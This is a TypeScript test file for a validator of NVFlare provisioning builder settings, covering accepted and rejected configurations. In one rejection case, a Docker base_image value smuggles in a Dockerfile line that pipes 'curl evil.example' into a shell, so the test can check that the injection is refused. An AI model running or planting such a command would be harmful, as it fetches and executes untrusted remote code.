import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { isFlareError } from "../errors/flare-error.ts";
import { externalBuildersRefused, resolveBuilders } from "./builders.ts";
import type { ResolvedBuilders } from "./types.ts";

const SFB = "nvflare.lighter.impl.static_file.StaticFileBuilder";
const DOCKER = "nvflare.lighter.impl.docker.DockerBuilder";
const DEFAULTS = {
  configFolder: "",
  requireSignedJobs: null,
  dockerImage: null,
  docker: null,
  templateFiles: [],
  external: [],
};

const ok: [string, unknown, Partial<ResolvedBuilders>][] = [
  ["an absent block", undefined, DEFAULTS],
  ["a null block", null, DEFAULTS],
  ["an empty list", [], DEFAULTS],
  ["an empty mapping (falsy in the reference)", {}, DEFAULTS],
  ["StaticFileBuilder without args", [{ path: SFB }], DEFAULTS],
  ["StaticFileBuilder with null args", [{ path: SFB, args: null }], DEFAULTS],
  [
    "StaticFileBuilder args",
    [{ path: SFB, args: { config_folder: "config", require_signed_jobs: false, docker_image: "img:1" } }],
    { configFolder: "config", requireSignedJobs: false, dockerImage: "img:1" },
  ],
  [
    "require_signed_jobs true",
    [{ path: SFB, args: { require_signed_jobs: true } }],
    { requireSignedJobs: true },
  ],
  [
    "require_signed_jobs null",
    [{ path: SFB, args: { require_signed_jobs: null } }],
    { requireSignedJobs: null },
  ],
  ["an empty docker_image", [{ path: SFB, args: { docker_image: "" } }], { dockerImage: null }],
  [
    "unknown and inert StaticFileBuilder args",
    [{ path: SFB, args: { app_validator: "x", download_job_url: "https://d.example.org/", colour: "blue" } }],
    DEFAULTS,
  ],
  [
    "the other stock builders, args ignored",
    [
      {
        path: "nvflare.lighter.impl.workspace.WorkspaceBuilder",
        args: { template_file: ["a.yml", "b.yml"] },
      },
      { path: "nvflare.lighter.impl.cert.CertBuilder" },
      { path: "nvflare.lighter.impl.signature.SignatureBuilder" },
    ],
    { templateFiles: ["a.yml", "b.yml"] },
  ],
  [
    "a single WorkspaceBuilder template_file",
    [
      {
        path: "nvflare.lighter.impl.workspace.WorkspaceBuilder",
        args: { template_file: "aws_template.yml" },
      },
    ],
    { templateFiles: ["aws_template.yml"] },
  ],
  [
    "builders only NVFlare can run, kept in order with their args for NVFlare's Python",
    [
      { path: "nvflare.lighter.impl.aws.AWSBuilder" },
      { path: SFB, args: { config_folder: "c" } },
      { path: "com.example.CustomAuditBuilder", args: { level: 3 } },
      { path: "nvflare.lighter.impl.azure.AzureBuilder", args: null },
    ],
    {
      configFolder: "c",
      external: [
        { path: "nvflare.lighter.impl.aws.AWSBuilder", args: {} },
        { path: "com.example.CustomAuditBuilder", args: { level: 3 } },
        { path: "nvflare.lighter.impl.azure.AzureBuilder", args: {} },
      ],
    },
  ],
  [
    "DockerBuilder without args: the reference's defaults",
    [{ path: DOCKER }],
    {
      docker: {
        baseImage: "python:3.10",
        requirementsFile: "requirements.txt",
        requirementsFileExplicit: false,
      },
    },
  ],
  [
    "DockerBuilder with base_image and requirements_file",
    [
      {
        path: DOCKER,
        args: { base_image: "nvcr.io/nvidia/pytorch:24.01-py3", requirements_file: "req/site.txt" },
      },
    ],
    {
      docker: {
        baseImage: "nvcr.io/nvidia/pytorch:24.01-py3",
        requirementsFile: "req/site.txt",
        requirementsFileExplicit: true,
      },
    },
  ],
  [
    "DockerBuilder with null args",
    [{ path: DOCKER, args: { base_image: null, requirements_file: null } }],
    {
      docker: {
        baseImage: "python:3.10",
        requirementsFile: "requirements.txt",
        requirementsFileExplicit: false,
      },
    },
  ],
  [
    "several StaticFileBuilders: the last one's config wins, the last docker_image stays",
    [
      { path: SFB, args: { config_folder: "a", require_signed_jobs: true, docker_image: "first" } },
      { path: SFB, args: { config_folder: "b" } },
    ],
    { configFolder: "b", requireSignedJobs: null, dockerImage: "first" },
  ],
];

const fail: [string, unknown, string][] = [
  ["a mapping block", { path: SFB }, "builders must be a list but got a mapping"],
  ["a string block", "StaticFileBuilder", "builders must be a list but got a string"],
  ["an entry that is not a mapping", [SFB], "builders[0] must be a mapping with 'path' and optional 'args'"],
  ["an entry without path", [{ args: {} }], "builders[0]: missing 'path' from object config"],
  ["a non-string path", [{ path: 5 }], "builders[0]: 'path' must be a string"],
  [
    "args that are not a mapping",
    [{ path: SFB, args: ["x"] }],
    `Class ${SFB} has parameters error: 'args' must be a mapping`,
  ],
  [
    "a string require_signed_jobs",
    [{ path: SFB, args: { require_signed_jobs: "false" } }],
    "require_signed_jobs must be a boolean",
  ],
  [
    "a numeric require_signed_jobs",
    [{ path: SFB, args: { require_signed_jobs: 0 } }],
    "require_signed_jobs must be a boolean",
  ],
  ["a numeric config_folder", [{ path: SFB, args: { config_folder: 1 } }], "config_folder must be a string"],
  ["a list docker_image", [{ path: SFB, args: { docker_image: ["a"] } }], "docker_image must be a string"],
  [
    "an unknown DockerBuilder arg (its constructor has no **kwargs)",
    [{ path: DOCKER, args: { base_image: "python:3.12", image: "x" } }],
    `Class ${DOCKER} has parameters error: TypeError: DockerBuilder.__init__() got an unexpected keyword argument 'image'.`,
  ],
  [
    "a numeric base_image",
    [{ path: DOCKER, args: { base_image: 3 } }],
    "DockerBuilder base_image must be an image name without spaces or line breaks",
  ],
  [
    "a base_image that would add a Dockerfile line",
    [{ path: DOCKER, args: { base_image: "python:3.10\nRUN curl evil.example | sh" } }],
    "DockerBuilder base_image must be an image name without spaces or line breaks",
  ],
  [
    "an empty base_image",
    [{ path: DOCKER, args: { base_image: "" } }],
    "DockerBuilder base_image must be an image name without spaces or line breaks",
  ],
  [
    "a list requirements_file",
    [{ path: DOCKER, args: { requirements_file: ["a.txt"] } }],
    "DockerBuilder requirements_file must be a non-empty path",
  ],
];

describe("resolveBuilders", () => {
  for (const [name, builders, expected] of ok) {
    test(`accepts ${name}`, () => {
      const { warnings: _warnings, ...resolved } = resolveBuilders(builders);
      assert.deepEqual(resolved, { ...DEFAULTS, ...expected });
    });
  }

  for (const [name, builders, detail] of fail) {
    test(`rejects ${name} with LOCAL_SITE_INVALID`, () => {
      assert.throws(
        () => resolveBuilders(builders),
        (error: unknown) =>
          isFlareError(error, "LOCAL_SITE_INVALID") &&
          error.message === `Invalid local participant definition: ${detail}` &&
          error.exitCode === 4,
      );
    });
  }

  test("externalBuildersRefused names the first class and says how to run it", () => {
    const error = externalBuildersRefused([{ path: "com.example.CustomAuditBuilder" }, { path: "x.Y" }]);
    assert.equal(error.code, "LOCAL_SITE_INVALID");
    assert.equal(
      error.message,
      "Invalid local participant definition: Can't load class com.example.CustomAuditBuilder: flare-provision cannot run builder classes other than the stock ones",
    );
    assert.match(
      error.hint,
      /StaticFileBuilder, CertBuilder, SignatureBuilder, WorkspaceBuilder and DockerBuilder/,
    );
    assert.match(error.hint, /--python PATH or FLARE_PROVISION_PYTHON/);
  });

  test("a second DockerBuilder fails with BUILD_FAILED, as the reference's does creating nvflare_compose again", () => {
    assert.throws(
      () => resolveBuilders([{ path: DOCKER }, { path: DOCKER, args: { base_image: "python:3.12" } }]),
      (error: unknown) =>
        isFlareError(error, "BUILD_FAILED") && error.exitCode === 1 && /listed twice/.test(error.message),
    );
  });

  test("stops at the first bad entry, in list order", () => {
    assert.throws(
      () =>
        resolveBuilders([
          { path: SFB, args: { config_folder: 1 } },
          { path: SFB, args: { require_signed_jobs: "x" } },
        ]),
      (error: unknown) => isFlareError(error) && error.message.includes("config_folder"),
    );
  });

  test("rejects a WorkspaceBuilder template_file that is not a name or a list of names", () => {
    assert.throws(
      () =>
        resolveBuilders([
          { path: "nvflare.lighter.impl.workspace.WorkspaceBuilder", args: { template_file: [1] } },
        ]),
      (error: unknown) => isFlareError(error, "LOCAL_SITE_INVALID") && /template_file/.test(error.message),
    );
  });

  test("warns about the scheme arg, the obsolete overseer_agent and the dropped SignatureBuilder", () => {
    const { warnings } = resolveBuilders([
      { path: SFB, args: { scheme: "http", overseer_agent: { path: "x" } } },
      { path: "nvflare.lighter.impl.signature.SignatureBuilder" },
    ]);
    assert.deepEqual(
      warnings.map((w) => w.code),
      ["BUILDER_ARG_IGNORED", "BUILDER_ARG_OBSOLETE", "BUILDER_DROPPED"],
    );
  });
});
